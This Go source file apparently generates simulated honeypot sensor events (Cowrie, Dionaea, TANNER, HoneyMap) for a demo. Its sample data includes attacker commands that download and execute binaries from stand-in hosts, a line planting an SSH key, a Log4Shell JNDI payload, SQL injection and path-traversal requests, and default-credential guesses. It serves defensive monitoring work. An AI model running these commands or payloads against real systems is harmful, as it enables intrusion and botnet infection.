package demo

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"
)

// attack is one simulated attack, from which the events of different sensors are made. Addresses are those reserved for
// documentation (RFC 5737), places are real.
type attack struct {
	source   netip.Addr
	port     uint16
	from, to place
	at       time.Time
	session  string
	user     string
	password string
	commands []string
	request  string
	md5      string
	sample   []byte // of malware; empty: none was caught
}

type place struct {
	city, country string
	lat, lon      float64
}

// event is what a sensor publishes: with which authkey, and on which channel.
type event struct {
	key, channel string
	payload      []byte
}

var (
	frankfurt = place{"Frankfurt", "DE", 50.11, 8.68}
	singapore = place{"Singapore", "SG", 1.35, 103.82}
	munich    = place{"München", "DE", 48.14, 11.58}
)

// places are where attacks come from.
var places = []place{
	{"São Paulo", "BR", -23.55, -46.63}, {"Seoul", "KR", 37.57, 126.98}, {"Ashburn", "US", 39.04, -77.49},
	{"Hanoi", "VN", 21.03, 105.85}, {"Lagos", "NG", 6.52, 3.38}, {"Amsterdam", "NL", 52.37, 4.90},
	{"Mumbai", "IN", 19.08, 72.88}, {"Sydney", "AU", -33.87, 151.21}, {"Bucharest", "RO", 44.43, 26.10},
	{"Taipei", "TW", 25.03, 121.57}, {"Jakarta", "ID", -6.21, 106.85}, {"Warsaw", "PL", 52.23, 21.01},
	{"Bogotá", "CO", 4.71, -74.07}, {"Tehran", "IR", 35.69, 51.39}, {"Santa Clara", "US", 37.35, -121.96},
	{"Johannesburg", "ZA", -26.20, 28.05}, {"Istanbul", "TR", 41.01, 28.98}, {"Osaka", "JP", 34.69, 135.50},
	{"Buenos Aires", "AR", -34.60, -58.38}, {"Montréal", "CA", 45.50, -73.57}, {"Cairo", "EG", 30.04, 31.24},
}

var guesses = [][2]string{
	{"root", "123456"}, {"admin", "admin"}, {"root", "xc3511"}, {"pi", "raspberry"}, {"ubuntu", "ubuntu"},
	{"oracle", "oracle"}, {"root", "vizxv"}, {"support", "support"}, {"test", "test123"}, {"git", "git"},
}

var typed = [][]string{
	{"uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.66/x86", "chmod 777 x86", "./x86"},
	{"cd /tmp || cd /var/run || cd /mnt", "curl -O http://203.0.113.80/bins.sh", "sh bins.sh"},
	{"enable", "system", "shell", "sh", "/bin/busybox MIRAI"},
	{"free -m | grep Mem", "ls -lh $(which ls)", "crontab -l", "w"},
	{`echo "ssh-rsa AAAAB3NzaC1yc2E... mdrfckr" >> ~/.ssh/authorized_keys`},
}

var requests = []string{
	"/wp-login.php?redirect_to=%2Fwp-admin%2F", "/.env", "/index.php?id=1%27%20OR%20%271%27=%271",
	"/cgi-bin/luci/;stok=/locale",
	"/?x=${jndi:ldap://198.51.100.9:1389/a}", "/../../../../etc/passwd", "/phpmyadmin/index.php",
	"/boaform/admin/formLogin",
}

func pick[T any](r *rand.Rand, from []T) T { return from[r.IntN(len(from))] }

func newAttack(r *rand.Rand, now time.Time) attack {
	n := pick(r, [][3]byte{{192, 0, 2}, {198, 51, 100}, {203, 0, 113}})
	guess := pick(r, guesses)
	a := attack{
		source: netip.AddrFrom4([4]byte{n[0], n[1], n[2], byte(1 + r.IntN(254))}), port: uint16(1024 + r.IntN(64000)),
		from: pick(r, places), at: now.UTC(), session: fmt.Sprintf("%012x", r.Uint64()>>16),
		user: guess[0], password: guess[1], commands: pick(r, typed), request: pick(r, requests),
		md5: fmt.Sprintf("%016x%016x", r.Uint64(), r.Uint64()),
	}
	if r.IntN(4) == 0 {
		a.sample = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 240)...)
		for i := 64; i < len(a.sample); i++ {
			a.sample[i] = byte(r.Uint32())
		}
	}
	return a
}

// events are what one of the sensors makes of an attack: one, or a capture and its sample, and where it came from.
func (a attack) events(r *rand.Rand) []event {
	var all []event
	switch r.IntN(5) {
	case 0, 1:
		a.to = frankfurt
		all = []event{{cowrieKey, "cowrie.sessions", a.cowrie()}}
	case 2:
		a.to = munich
		all = []event{{webKey, "tanner.events", a.tanner()}}
	default:
		a.to = singapore
		all = []event{{dionaeaKey, "dionaea.capture", a.dionaea()}}
		if len(a.sample) > 0 {
			all = append(all, event{dionaeaKey, "mwbinary.dionaea.sensorunique", a.sample})
		}
	}
	if all[0].key == webKey {
		return all // bob's sensor: ada does not see where its attackers are
	}
	return append(all, event{placesKey, "geoloc.events", a.geoloc(all[0].channel)})
}

// cowrie is one session as cowrie's hpfeeds output publishes it on cowrie.sessions.
func (a attack) cowrie() []byte {
	return encodeEvent(map[string]any{
		"peerIP": a.source, "peerPort": a.port, "hostIP": "192.0.2.10", "hostPort": 22, "session": a.session,
		"startTime": a.at.Add(-7 * time.Second).Format(time.RFC3339Nano), "endTime": a.at.Format(time.RFC3339Nano),
		"loggedin": []string{a.user, a.password}, "credentials": [][]string{{a.user, "password"}, {a.user, a.password}},
		"commands": a.commands, "unknownCommands": []string{}, "urls": []string{"http://203.0.113.66/x86"},
		"hashes": []string{a.md5 + a.md5}, "version": "SSH-2.0-libssh2_1.4.3", "ttylog": nil, "protocol": "ssh",
	})
}

// dionaea is a captured sample as dionaea publishes it on dionaea.capture.
func (a attack) dionaea() []byte {
	return encodeEvent(map[string]any{
		"saddr": a.source, "sport": fmt.Sprint(a.port), "daddr": "192.0.2.20", "dport": "445",
		"url": "smb://" + a.source.String(), "md5": a.md5, "sha512": a.md5 + a.md5 + a.md5 + a.md5,
	})
}

// tanner is a request as TANNER publishes it.
func (a attack) tanner() []byte {
	return encodeEvent(map[string]any{
		"method": "GET", "path": a.request, "src_ip": a.source, "peer": map[string]any{"ip": a.source, "port": a.port},
		"headers": map[string]any{"host": "192.0.2.30", "user-agent": "Mozilla/5.0 zgrab/0.x", "accept": "*/*"},
		"uuid":    a.session, "status": 200, "timestamp": a.at.Format(time.RFC3339),
	})
}

// geoloc is what HoneyMap reads from geoloc.events: red is the attacker, yellow the sensor.
func (a attack) geoloc(kind string) []byte {
	return encodeEvent(map[string]any{
		"type": kind, "time": a.at.Format("2006-01-02 15:04:05"), "latitude": a.from.lat, "longitude": a.from.lon,
		"countrycode": a.from.country, "city": a.from.city, "latitude2": a.to.lat, "longitude2": a.to.lon,
		"countrycode2": a.to.country, "city2": a.to.city, "md5": a.md5,
	})
}

// advisory is what a CERT tells everybody.
var advisory = encodeEvent(map[string]any{
	"id": "CERT-2026-0118", "tlp": "CLEAR", "title": "Wormable botnet spreads by default passwords of IP cameras",
	"severity": "high", "indicators": []string{"203.0.113.66", "203.0.113.80", "198.51.100.9:1389"},
	"advice": "Change default passwords; block outgoing telnet.",
})

// encodeEvent writes JSON as the sensors do, which escape nothing for HTML.
func encodeEvent(v map[string]any) []byte {
	var b bytes.Buffer
	to := json.NewEncoder(&b)
	to.SetEscapeHTML(false)
	if err := to.Encode(v); err != nil {
		panic(err) // the values above are all encodable
	}
	return bytes.TrimSpace(b.Bytes())
}
